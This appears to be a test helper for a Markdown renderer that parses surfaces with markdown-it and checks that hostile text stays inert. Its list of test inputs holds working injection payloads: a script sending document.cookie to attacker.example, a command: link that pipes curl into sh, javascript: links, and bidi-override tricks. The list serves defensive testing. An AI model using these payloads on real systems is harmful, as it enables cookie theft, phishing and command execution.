// The rendering cases' judge: parses a surface's Markdown with a real CommonMark parser
// (markdown-it, HTML on, GFM-style autolinks on) and lists every live construct in it: a link,
// an image, raw HTML, an autolink. A surface built from hostile text must have none that came
// from that text. markdown-it's fuzzy links ("model.py" is a Paraguayan domain to it) are off, as
// in GFM; what GFM links by itself (https://, www., a@b.c) is also looked for in the source.
import MarkdownIt from 'markdown-it';
import { expect } from 'vitest';

const parser = new MarkdownIt({ html: true, linkify: true });
parser.linkify.set({ fuzzyLink: false, fuzzyEmail: true });
// keep a backslash-escaped character in a token of its own, as GFM's autolinker sees it
parser.core.ruler.disable('text_join');

type Token = ReturnType<MarkdownIt['parse']>[number];

function walk(tokens: Token[], visit: (t: Token) => void): void {
  for (const t of tokens) {
    visit(t);
    if (t.children) walk(t.children, visit);
  }
}

/** Live constructs of `markdown`: "link_open https://…", "image …", "html_inline <img …>", "gfm-autolink www.…". */
export function liveMarkdown(markdown: string): string[] {
  const found: string[] = [];
  walk(parser.parse(markdown, {}), (t) => {
    if (t.type === 'link_open' || t.type === 'image')
      found.push(`${t.type} ${t.attrs?.find(([k]) => k === 'href' || k === 'src')?.[1] ?? ''}`);
    if (t.type === 'html_inline' || t.type === 'html_block') found.push(`${t.type} ${t.content.trim().slice(0, 80)}`);
    // GFM's extended autolinks (VS Code's renderer has them), which CommonMark leaves as text
    if (t.type === 'text')
      for (const m of t.content.matchAll(/\b(?:https?|ftp):\/\/\S*|\bwww\.\S*|[\w.+-]+@[\w-]+\.[\w.-]+/gi))
        found.push(`gfm-autolink ${m[0].slice(0, 80)}`);
  });
  return found;
}

/** The text a reader sees (tags stripped from markdown-it's HTML). */
export function shownText(markdown: string): string {
  return parser
    .render(markdown)
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');
}

/** No link, image, HTML or autolink in `markdown`, and the hostile text is still shown (as text), not dropped. */
export function expectInert(markdown: string, shown?: string): void {
  expect(liveMarkdown(markdown), '').toEqual([]);
  if (shown !== undefined) expect(shownText(markdown)).toContain(shown);
}

/** Bidi overrides and C0/C1 controls (other than line breaks): they reorder or hide what is shown. */
// eslint-disable-next-line no-control-regex -- control characters are what this finds
export const INVISIBLE = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** The hostile texts: each tries to make a surface fetch, link, run or hide something. */
export const HOSTILE_TEXTS: [attack: string, text: string, shown?: string][] = [
  ['a remote image with the file path in its URL', 'boom ![i](https://attacker.example/b.png?f=/home/user/project/model.py)', 'attacker'],
  ['a link to a remote site', 'see [the docs](https://attacker.example/phish)', 'the docs'],
  [
    'a command: URI link',
    'fix it [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
    'here',
  ],
  ['an <img> tag', '<img src="https://attacker.example/p.png" onerror="alert(1)">', 'img'],
  ['a <script> block', '<script>fetch("https://attacker.example/"+document.cookie)</script>', 'script'],
  ['an autolink in angle brackets', 'go to <https://attacker.example/a>', 'attacker'],
  ['a bare https URL', 'details at https://attacker.example/a?b=c', 'attacker'],
  ['a www. address', 'visit www.attacker.example now', 'attacker'],
  ['an e-mail address', 'mail leak@attacker.example', 'leak'],
  ['backticks that close a code span', 'x` [a](https://attacker.example/code) `y', 'attacker'],
  ['nested brackets', '[[inner](https://attacker.example/1)](https://attacker.example/2)', 'inner'],
  ['a reference-style link and its definition', '[a][r]\n\n[r]: https://attacker.example/ref', 'attacker'],
  ['a line break then a heading and a link', 'ok\n\n# Heading\n\n[a](https://attacker.example/block)', 'Heading'],
  ['a javascript: link', '[x](javascript:alert(document.domain))', 'alert'],
  ['a data: image', '![x](data:image/png;base64,iVBORw0KGgo=)', 'data'],
  ['an angle-bracket link destination', '[x](<https://attacker.example/a b>)', 'attacker'],
  ['an escaped bracket that tries to undo the escaping', '\\[x](https://attacker.example/esc)', 'attacker'],
  ['an image with a title', '![i](https://attacker.example/t.png "title")', 'title'],
  ['an HTML comment and entity-encoded brackets', '<!-- x --> &#91;a&#93;(https://attacker.example/ent)', 'attacker'],
  ['a table cell break and a pipe', 'a | b |\n|---|---|\n| [c](https://attacker.example/t) |', 'attacker'],
  ['ANSI and other control characters', 'red \u001b[31m\u0007bell\u0000nul [l](https://attacker.example/c)', 'bell'],
  [
    'a bidi override that reverses the shown text',
    'harmless \u202Eyp.exe\u202C and \u2066[x](https://attacker.example/bidi)\u2069',
    'harmless',
  ],
  ['a very long text with a link at its end', `${'A'.repeat(200_000)}[late](https://attacker.example/late)`],
];
